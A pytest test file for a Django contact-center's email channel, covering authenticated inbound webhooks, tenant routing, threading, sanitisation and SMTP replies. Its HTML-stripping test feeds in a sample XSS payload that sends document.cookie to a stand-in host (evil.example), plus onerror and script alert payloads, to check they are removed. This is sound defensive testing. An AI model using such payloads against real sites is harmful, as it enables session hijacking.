"""The email channel: inbound-parse webhooks (authenticated, validated, idempotent, threaded,
tenant-routed) and replies sent through a real SMTP conversation with a local server."""

import base64
import email
import json
import socket
from email import policy

import pytest
from aiosmtpd.controller import Controller
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.test.client import BOUNDARY, encode_multipart
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from channels_inbound.models import (
    Channel,
    ChannelEndpoint,
    EmailDetails,
    InboundEvent,
    InboundOutcome,
    Provider,
    UnroutedInboundEvent,
)
from contactcenter.demo import seed_demo
from contactcenter.tenancy import dangerously_all_tenants, tenant_context
from conversations.delivery import TemporaryFailure
from conversations.models import Attachment, Contact, Conversation, DeliveryStatus, Direction, Message
from conversations.services import conversation_start, conversation_transition, message_deliver, message_send_reply

INBOUND = "/webhooks/email/inbound"
ACME_MAILBOX, ACME_SECRET = "support@acme.example", "acme-demo-email-secret"
GLOBEX_MAILBOX, GLOBEX_SECRET = "support@globex.example", "globex-demo-email-secret"
CUSTOMER = "Dana Scully <dana@example.com>"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(17)
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"


def make_mailbox(tenant, address, secret) -> ChannelEndpoint:
    with tenant_context(tenant):
        endpoint = ChannelEndpoint(
            tenant=tenant, provider=Provider.EMAIL, channel=Channel.EMAIL, address=address, name=f"{tenant.name}"
        )
        endpoint.set_auth_token(secret)
        endpoint.save()
        return endpoint


@pytest.fixture
def acme_mailbox(acme) -> ChannelEndpoint:
    # Stored with capitals: mailboxes match whatever case the sender typed.
    return make_mailbox(acme, "Support@Acme.example", ACME_SECRET)


@pytest.fixture
def globex_mailbox(globex) -> ChannelEndpoint:
    return make_mailbox(globex, GLOBEX_MAILBOX, GLOBEX_SECRET)


def inbound_email(
    *, to=ACME_MAILBOX, sender=CUSTOMER, subject="Order 1234 has not arrived", text="Hello, where is my parcel?",
    html="", message_id="<CAF+dana-1@mail.example.com>", in_reply_to="", references="", files=(), **overrides,
) -> dict:  # fmt: skip
    """The multipart fields SendGrid's Inbound Parse posts for one email (fresh files each call)."""
    headers = [
        "Received: from mail.example.com (mail.example.com [192.0.2.10]) by mx.sendgrid.net",
        f"From: {sender}",
        f"To: {to}",
        f"Subject: {subject}",
        "Date: Fri, 20 Nov 2026 10:00:00 +0000",
        "MIME-Version: 1.0",
    ]
    headers += [f"Message-ID: {message_id}"] if message_id else []
    headers += [f"In-Reply-To: {in_reply_to}"] if in_reply_to else []
    headers += [f"References: {references}"] if references else []
    fields = {
        "headers": "\n".join(headers) + "\n",
        "from": sender,
        "to": to,
        "subject": subject,
        "text": text,
        "html": html,
        "envelope": json.dumps({"to": [to], "from": "dana@example.com"}),
        "charsets": json.dumps({"to": "UTF-8", "from": "UTF-8", "subject": "UTF-8", "text": "UTF-8", "html": "UTF-8"}),
        "SPF": "pass",
        "attachments": str(len(files)),
        "attachment-info": json.dumps(
            {f"attachment{i}": {"filename": name, "type": kind} for i, (name, kind, _) in enumerate(files, 1)}
        ),
    }
    for i, (name, kind, content) in enumerate(files, 1):
        fields[f"attachment{i}"] = SimpleUploadedFile(name, content, content_type=kind)
    fields.update(overrides)
    return {key: value for key, value in fields.items() if value is not None}


def basic_auth(secret: str, user: str = "sendgrid") -> str:
    return "Basic " + base64.b64encode(f"{user}:{secret}".encode()).decode()


@pytest.fixture
def relay(db) -> Client:
    return Client()


def post(client: Client, fields: dict, secret: str | None = ACME_SECRET):
    headers = {"HTTP_AUTHORIZATION": basic_auth(secret)} if secret is not None else {}
    return client.post(INBOUND, fields, **headers)


def all_messages() -> list[Message]:
    with dangerously_all_tenants():
        return list(Message.objects.select_related("conversation__contact").order_by("pk"))


def events_of(tenant) -> list[InboundEvent]:
    with tenant_context(tenant):
        return list(InboundEvent.objects.order_by("received_at", "pk"))


# --- inbound --------------------------------------------------------------------------------------


def test_an_inbound_email_creates_one_contact_conversation_and_message_in_the_right_tenant(
    relay, acme_mailbox, globex_mailbox, acme
):
    fields = inbound_email(
        files=[("parcel.png", "application/octet-stream", PNG), ("invoice.pdf", "application/pdf", PDF)],
        html="<p>Hello, where is my parcel?</p>",
    )
    response = post(relay, fields)
    assert response.status_code == 200, response.content

    [message] = all_messages()
    assert message.tenant_id == acme.pk
    assert (message.direction, message.body) == (Direction.INBOUND, "Hello, where is my parcel?")
    assert message.provider_message_id == "<CAF+dana-1@mail.example.com>"
    conversation = message.conversation
    assert (conversation.channel, conversation.subject) == ("email", "Order 1234 has not arrived")
    assert conversation.contact.name == "Dana Scully"
    with tenant_context(acme):
        assert list(conversation.contact.identities.values_list("kind", "value")) == [("email", "dana@example.com")]
        details = EmailDetails.objects.get(message=message)
        attachments = {a.filename: a for a in Attachment.objects.filter(message=message)}
    assert (details.endpoint_id, details.from_address) == (acme_mailbox.pk, "dana@example.com")
    assert details.message_id_header == "<CAF+dana-1@mail.example.com>"
    # The PNG's type comes from its bytes, not from the sender's claim.
    assert {name: a.content_type for name, a in attachments.items()} == {
        "parcel.png": "image/png",
        "invoice.pdf": "application/pdf",
    }
    assert attachments["invoice.pdf"].file.read() == PDF
    assert attachments["parcel.png"].size == len(PNG)

    [event] = events_of(acme)
    assert event.outcome == InboundOutcome.STORED
    assert event.body["subject"] == "Order 1234 has not arrived"
    assert [f["name"] for f in event.body["_files"]] == ["parcel.png", "invoice.pdf"]
    assert ACME_SECRET not in json.dumps(event.headers) + json.dumps(event.body)
    assert events_of(acme_mailbox.tenant) and not events_of(globex_mailbox.tenant)


def test_a_relay_retry_stores_nothing_new(relay, acme_mailbox, acme):
    attachments = [("invoice.pdf", "application/pdf", PDF)]
    assert post(relay, inbound_email(files=attachments)).status_code == 200
    assert post(relay, inbound_email(files=attachments)).status_code == 200
    [message] = all_messages()
    with tenant_context(acme):
        assert Attachment.objects.count() == 1
        assert Conversation.objects.count() == 1
    assert [event.outcome for event in events_of(acme)] == ["stored", "duplicate"]


def test_a_retry_after_the_conversation_closed_starts_no_new_one(relay, acme_mailbox, acme):
    assert post(relay, inbound_email()).status_code == 200
    with tenant_context(acme):
        conversation_transition(conversation=Conversation.objects.get(), to_status="closed", reason="Done")
    assert post(relay, inbound_email()).status_code == 200
    with tenant_context(acme):
        assert Conversation.objects.count() == 1
    assert [event.outcome for event in events_of(acme)] == ["stored", "duplicate"]


def test_an_email_without_message_id_is_still_stored_once(relay, acme_mailbox, acme):
    assert post(relay, inbound_email(message_id="")).status_code == 200
    assert post(relay, inbound_email(message_id="")).status_code == 200
    assert post(relay, inbound_email(message_id="", text="A different email")).status_code == 200
    messages = all_messages()
    assert [m.body for m in messages] == ["Hello, where is my parcel?", "A different email"]
    assert all(m.provider_message_id.endswith("@no-message-id.switchboard.invalid>") for m in messages)
    with tenant_context(acme):
        assert set(EmailDetails.objects.values_list("message_id_header", flat=True)) == {""}


def test_a_reply_lands_in_the_conversation_it_answers(relay, acme_mailbox, acme):
    assert post(relay, inbound_email(message_id="<first@mail.example.com>")).status_code == 200
    [first] = all_messages()
    # A second live email conversation with the same customer, newer: without threading, the
    # customer's next email would land there.
    with tenant_context(acme):
        other = conversation_start(contact=first.conversation.contact, channel="email", subject="Another matter")

    reply = inbound_email(
        subject="Re: Order 1234 has not arrived", text="Any news?", message_id="<second@mail.example.com>",
        in_reply_to="<first@mail.example.com>", references="<first@mail.example.com>",
    )  # fmt: skip
    assert post(relay, reply).status_code == 200
    unthreaded = inbound_email(subject="New question", text="Unrelated", message_id="<third@mail.example.com>")
    assert post(relay, unthreaded).status_code == 200

    by_id = {m.provider_message_id: m for m in all_messages()}
    assert by_id["<second@mail.example.com>"].conversation_id == first.conversation_id
    assert by_id["<third@mail.example.com>"].conversation_id == other.pk
    with tenant_context(acme):
        details = EmailDetails.objects.get(message=by_id["<second@mail.example.com>"])
    assert (details.subject, details.in_reply_to) == ("Re: Order 1234 has not arrived", "<first@mail.example.com>")


def test_a_message_id_of_someone_elses_conversation_does_not_thread_into_it(relay, acme_mailbox, acme):
    assert post(relay, inbound_email(message_id="<dana@mail.example.com>")).status_code == 200
    stranger = inbound_email(
        sender="Mallory <mallory@example.net>", message_id="<m@example.net>", in_reply_to="<dana@mail.example.com>"
    )
    assert post(relay, stranger).status_code == 200
    dana, mallory = all_messages()
    assert dana.conversation_id != mallory.conversation_id
    assert mallory.conversation.contact.name == "Mallory"


@pytest.mark.parametrize("secret", [None, "", "wrong-secret", GLOBEX_SECRET], ids=["none", "empty", "wrong", "other"])
def test_a_missing_or_wrong_secret_is_403_and_stores_nothing(relay, acme_mailbox, globex_mailbox, acme, secret):
    response = post(relay, inbound_email(), secret=secret)
    assert response.status_code == 403
    assert all_messages() == []
    [event] = events_of(acme)
    assert event.outcome == InboundOutcome.BAD_SIGNATURE


def test_a_garbled_authorization_header_is_403(relay, acme_mailbox, acme):
    response = relay.post(INBOUND, inbound_email(), HTTP_AUTHORIZATION="Basic not*base64")
    assert response.status_code == 403
    assert all_messages() == []


def test_acmes_secret_cannot_deliver_into_globexs_mailbox(relay, acme_mailbox, globex_mailbox, acme, globex):
    response = post(relay, inbound_email(to=GLOBEX_MAILBOX), secret=ACME_SECRET)
    assert response.status_code == 403
    assert all_messages() == []
    assert [event.outcome for event in events_of(globex)] == [InboundOutcome.BAD_SIGNATURE]
    assert events_of(acme) == []


def test_an_email_copied_to_two_tenants_goes_to_the_one_whose_secret_came(relay, acme_mailbox, globex_mailbox, globex):
    envelope = json.dumps({"to": [ACME_MAILBOX, GLOBEX_MAILBOX]})
    fields = inbound_email(to=ACME_MAILBOX, cc=GLOBEX_MAILBOX, envelope=envelope)
    assert post(relay, fields, secret=GLOBEX_SECRET).status_code == 200
    [message] = all_messages()
    assert message.tenant_id == globex.pk


def test_an_unknown_mailbox_is_404_and_recorded_for_the_operator(relay, acme_mailbox):
    response = post(relay, inbound_email(to="sales@unknown.example"))
    assert response.status_code == 404
    assert "sales@unknown.example" in response.content.decode()
    assert all_messages() == []
    [unrouted] = UnroutedInboundEvent.objects.all()
    assert (unrouted.provider, unrouted.body["to"]) == ("email", "sales@unknown.example")


@pytest.mark.parametrize(
    ("overrides", "reason"),
    [
        ({"from": None}, "from: missing"),
        ({"from": "not an address"}, "from: missing or not an email address"),
        ({"envelope": "{not json"}, "envelope: not valid JSON"),
        ({"envelope": json.dumps({"to": "support@acme.example"})}, "envelope: to must be a list"),
        ({"attachments": "2"}, "the count says 2 but the files sent are attachment1"),
        ({"attachments": "abc"}, "attachments: not a whole number"),
        ({"attachment-info": "[1, 2"}, "attachment-info: not valid JSON"),
    ],
    ids=["no-from", "bad-from", "envelope-not-json", "envelope-to-not-a-list", "count-mismatch", "count-nan", "info"],
)
def test_malformed_emails_are_400_with_the_reason_and_store_nothing(relay, acme_mailbox, acme, overrides, reason):
    fields = inbound_email(files=[("invoice.pdf", "application/pdf", PDF)], **overrides)
    response = post(relay, fields)
    assert response.status_code == 400
    assert reason in response.content.decode()
    assert all_messages() == []
    with tenant_context(acme):
        assert not Conversation.objects.exists() and not Contact.objects.exists()
    assert events_of(acme)[-1].outcome == InboundOutcome.MALFORMED


def test_an_html_only_email_is_stored_as_text_without_tags_or_scripts(relay, acme_mailbox):
    html = (
        "<html><head><title>Newsletter</title><style>p { color: red }</style></head><body>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<p>Hello&nbsp;<b>there</b>,</p><p>Tom &amp; Jerry&#39;s <a href='https://x.example'>order</a></p>"
        "<img src=x onerror=alert(1)><div>Thanks</div></body></html>"
    )
    assert post(relay, inbound_email(text="", html=html)).status_code == 200
    [message] = all_messages()
    assert message.body == "Hello there,\n\nTom & Jerry's order\n\nThanks"
    for leftover in ("<", ">", "document", "evil", "color", "Newsletter", "&amp;", "onerror"):
        assert leftover not in message.body


def test_fields_in_another_charset_are_decoded_with_it(relay, acme_mailbox):
    fields = inbound_email(
        text="@text@", subject="@subject@",
        charsets=json.dumps({"text": "iso-8859-1", "subject": "iso-8859-1", "from": "UTF-8"}),
    )  # fmt: skip
    # The relay sends each field's bytes in the email's own charset, which the test client cannot.
    body = encode_multipart(BOUNDARY, fields)
    body = body.replace(b"@text@", "Grüße aus Köln".encode("iso-8859-1"))
    body = body.replace(b"@subject@", "Bestellung für Jürgen".encode("iso-8859-1"))
    content_type = f"multipart/form-data;boundary={BOUNDARY}"  # not MULTIPART_CONTENT, which re-encodes
    response = relay.post(INBOUND, body, content_type=content_type, HTTP_AUTHORIZATION=basic_auth(ACME_SECRET))
    assert response.status_code == 200
    [message] = all_messages()
    assert message.body == "Grüße aus Köln"
    assert message.conversation.subject == "Bestellung für Jürgen"


@override_settings(EMAIL_ATTACHMENT_MAX_BYTES=100)
def test_an_attachment_over_the_limit_is_left_out_and_the_message_says_so(relay, acme_mailbox, acme):
    fields = inbound_email(files=[("big.pdf", "application/pdf", PDF + bytes(200)), ("small.png", "image/png", PNG)])
    assert post(relay, fields).status_code == 200
    [message] = all_messages()
    with tenant_context(acme):
        assert list(Attachment.objects.values_list("filename", flat=True)) == ["small.png"]
    assert "[Attachment not kept: “big.pdf”" in message.body
    assert message.body.startswith("Hello, where is my parcel?")
    assert "big.pdf" in events_of(acme)[-1].detail


def test_an_attachment_that_lies_about_its_type_is_not_trusted(relay, acme_mailbox, acme):
    page = b"<html><script>alert(1)</script></html>"
    fields = inbound_email(files=[("cat.png", "image/png", page), ("page.html", "text/html", page)])
    assert post(relay, fields).status_code == 200
    with tenant_context(acme):
        types = dict(Attachment.objects.values_list("filename", "content_type"))
    assert types == {"cat.png": "application/octet-stream", "page.html": "application/octet-stream"}


def test_the_demo_mailboxes_take_email_with_their_demo_secrets(relay):
    seed_demo()
    seed_demo()  # idempotent: still one endpoint per mailbox
    assert post(relay, inbound_email(to=ACME_MAILBOX), secret=ACME_SECRET).status_code == 200
    to_globex = inbound_email(to=GLOBEX_MAILBOX, message_id="<g@x.example>")
    assert post(relay, to_globex, secret=GLOBEX_SECRET).status_code == 200
    assert sorted(m.tenant.slug for m in all_messages()) == ["acme", "globex"]
    with dangerously_all_tenants():
        assert ChannelEndpoint.objects.filter(provider=Provider.EMAIL).count() == 2


# --- outbound, through a real SMTP conversation -------------------------------------------------


class RecordingMailServer:
    """An aiosmtpd handler: keeps every message it accepts; refuses recipients at refused.example."""

    def __init__(self):
        self.received: list[tuple[str, list[str], email.message.EmailMessage]] = []

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
        if address.endswith("@refused.example"):
            return "550 5.1.1 <%s>: Recipient address rejected: User unknown" % address
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server, session, envelope):
        parsed = email.message_from_bytes(envelope.original_content, policy=policy.default)
        self.received.append((envelope.mail_from, list(envelope.rcpt_tos), parsed))
        return "250 Message accepted for delivery"


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def smtp_settings(port: int):
    """Django's SMTP backend pointed at 127.0.0.1:port (the test environment swaps in an in-memory one)."""
    options = {"host": "127.0.0.1", "port": port, "timeout": 5}
    smtp = {"BACKEND": "django.core.mail.backends.smtp.EmailBackend", "OPTIONS": options}
    return override_settings(MAILERS={"default": smtp})


@pytest.fixture
def mail_server():
    handler = RecordingMailServer()
    controller = Controller(handler, hostname="127.0.0.1", port=free_port())
    controller.start()
    try:
        with smtp_settings(controller.port):
            yield handler
    finally:
        controller.stop()


def conversation_with_an_email(relay, acme, **fields) -> Conversation:
    email_fields = inbound_email(
        message_id="<second@mail.example.com>", references="<first@mail.example.com>",
        in_reply_to="<first@mail.example.com>", **fields,
    )  # fmt: skip
    assert post(relay, email_fields).status_code == 200
    with tenant_context(acme):
        return Conversation.objects.get()


def reply_and_deliver(conversation, author, body: str, *, final_attempt=True) -> Message:
    message = message_send_reply(conversation=conversation, author=author, body=body)
    try:
        queued = Message.objects.select_related("conversation").get(pk=message.pk)
        message_deliver(message=queued, final_attempt=final_attempt)
    finally:
        message.refresh_from_db()
    return message


def test_an_agent_reply_reaches_the_mail_server_threaded_to_the_customers_email(
    relay, acme_mailbox, acme, acme_agent, mail_server
):
    conversation = conversation_with_an_email(relay, acme)
    with tenant_context(acme):
        message = reply_and_deliver(conversation, acme_agent, "Your parcel left our warehouse today.\nSorry!")

    [(mail_from, rcpt_tos, sent)] = mail_server.received
    assert (mail_from, rcpt_tos) == ("Support@Acme.example", ["dana@example.com"])
    assert sent["From"].addresses[0].addr_spec == "Support@Acme.example"
    assert sent["From"].addresses[0].display_name == "Acme Support"
    assert sent["To"] == "dana@example.com"
    assert sent["Subject"] == "Re: Order 1234 has not arrived"
    assert sent["In-Reply-To"] == "<second@mail.example.com>"
    assert sent["References"] == "<first@mail.example.com> <second@mail.example.com>"
    assert sent.get_content().replace("\r\n", "\n").strip() == "Your parcel left our warehouse today.\nSorry!"
    assert sent["Message-ID"].endswith("@Acme.example>")
    assert (message.delivery_status, message.provider_message_id) == (DeliveryStatus.SENT, sent["Message-ID"])

    # The customer answers our reply: it threads back into the same conversation.
    answer = inbound_email(
        subject="Re: Order 1234 has not arrived", text="Thanks!", message_id="<third@mail.example.com>",
        in_reply_to=sent["Message-ID"], references=f"{sent['References']} {sent['Message-ID']}",
    )  # fmt: skip
    with tenant_context(acme):
        conversation_start(contact=conversation.contact, channel="email", subject="A newer conversation")
    assert post(relay, answer).status_code == 200
    with tenant_context(acme):
        assert Message.objects.get(provider_message_id="<third@mail.example.com>").conversation_id == conversation.pk


def test_a_permanent_rejection_marks_the_reply_failed_with_the_servers_reason(
    relay, acme_mailbox, acme, acme_agent, mail_server
):
    conversation = conversation_with_an_email(relay, acme, sender="Gone <gone@refused.example>")
    with tenant_context(acme):
        message = reply_and_deliver(conversation, acme_agent, "Hello?", final_attempt=False)
    assert mail_server.received == []
    assert (message.delivery_status, message.error_code) == (DeliveryStatus.FAILED, "550")
    assert "Recipient address rejected" in message.error_reason


def test_a_refused_connection_is_temporary_until_the_last_attempt(relay, acme_mailbox, acme, acme_agent):
    conversation = conversation_with_an_email(relay, acme)
    with smtp_settings(free_port()), tenant_context(acme):  # nothing listens there
        with pytest.raises(TemporaryFailure):
            reply_and_deliver(conversation, acme_agent, "Hello?", final_attempt=False)
        message = Message.objects.get(direction=Direction.OUTBOUND)
        assert (message.delivery_status, message.send_claimed_at) == (DeliveryStatus.QUEUED, None)

        message_deliver(message=message, final_attempt=True)
        message.refresh_from_db()
    assert message.delivery_status == DeliveryStatus.FAILED
    assert "Could not reach the mail server" in message.error_reason


# --- robustness ---------------------------------------------------------------------------------

FUZZED_FIELDS = ["from", "to", "cc", "subject", "text", "html", "headers", "envelope", "attachments",
                 "attachment-info", "charsets"]  # fmt: skip


@hypothesis_settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(fields=st.dictionaries(keys=st.sampled_from(FUZZED_FIELDS), values=st.text(max_size=60), max_size=6))
def test_no_authenticated_body_can_cause_a_server_error(relay, acme_mailbox, fields):
    body = {**inbound_email(message_id=None), **fields}
    response = post(relay, body)
    assert response.status_code in (200, 400, 404), response.content[:300]
